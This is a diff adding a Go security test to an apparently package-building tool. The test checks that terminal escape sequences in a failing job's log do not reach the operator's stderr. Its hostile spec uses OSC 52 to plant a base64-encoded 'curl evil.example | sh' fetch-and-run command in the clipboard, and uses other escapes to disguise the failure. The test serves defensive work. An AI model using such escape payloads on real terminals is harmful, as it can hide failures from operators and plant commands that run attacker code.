@@ -58,3 +58,24 @@ func TestAttackSIGReleasePackageByName(t *testing.T) {
 		t.Errorf("dnf installed the SIG's pebble-release-sigrelease; the machine's repository file is now the SIG's:\n%s", data)
 	}
 }
+
+// TestAttackLogEscapesReachTheTerminal: a failing job's log tail is
+// printed to the operator's stderr as the job wrote it. A job that prints
+// terminal escapes (here: set the window title, erase the line and move
+// up, OSC 52 to set the clipboard) drives the operator's terminal: it can
+// hide its own failure or plant a command in the clipboard.
+func TestAttackLogEscapesReachTheTerminal(t *testing.T) {
+	d := newDistro(t)
+	d.only([]string{"banner"}, nil)
+	d.editConfig("arches: [x86_64, aarch64, ppc64le, s390x]", "arches: [x86_64]")
+	d.keyInit()
+	d.publish(hostileSpec("escaper", "", `printf '\033]0;all good\007\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\007\033[2K\033[1Aok\n'; exit 1`))
+	d.only([]string{"banner", "escaper"}, []string{"escaper"})
+	_, stderr, code := d.run("build")
+	if code == 0 {
+		t.Fatal("a failing job: exit 0")
+	}
+	if strings.Contains(stderr, "\x1b]52;") || strings.Contains(stderr, "\x1b]0;") {
+		t.Errorf("the job's terminal escapes reached stderr unescaped: %q", stderr[max(0, strings.Index(stderr, "\x1b")-80):min(len(stderr), strings.Index(stderr, "\x1b")+120)])
+	}
+}
